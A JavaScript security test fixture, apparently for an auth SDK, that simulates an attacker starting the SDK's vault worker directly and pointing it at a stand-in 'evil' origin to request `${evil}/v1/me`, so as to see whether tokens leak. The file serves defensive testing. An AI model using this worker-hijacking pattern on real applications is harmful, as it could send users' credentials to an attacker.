// A real attacker: leaves the SDK alone and starts its worker's file directly, with a list of their own. No policy can tell
// that worker from the application's; what it may connect to is for the policy of its file to say.
const after = async ({ own, home, api, evil }) => {
  const { port1, port2 } = new MessageChannel();
  const heard = [];
  port1.onmessage = ({ data }) => heard.push(String(data).slice(0, 200));
  const worker = new Worker(`${own}/pkg/vault.worker.js`);
  worker.onerror = (event) => event.preventDefault();
  const mine = { origin: evil, audience: `${api}/es256`, scope: "read" };
  worker.postMessage({ endpoints: `${home}/auth`, resources: [mine] }, [port2]);
  for (let i = 0; i < 60 && !heard.length; i++) await new Promise((resolve) => setTimeout(resolve, 50));
  port1.postMessage([0, 1, `${evil}/v1/me`, [], { method: "GET" }, true]);
  await new Promise((resolve) => setTimeout(resolve, 1200));
  return heard;
};

export default { row: "own-worker", expected: ["wins", "loses"], after };
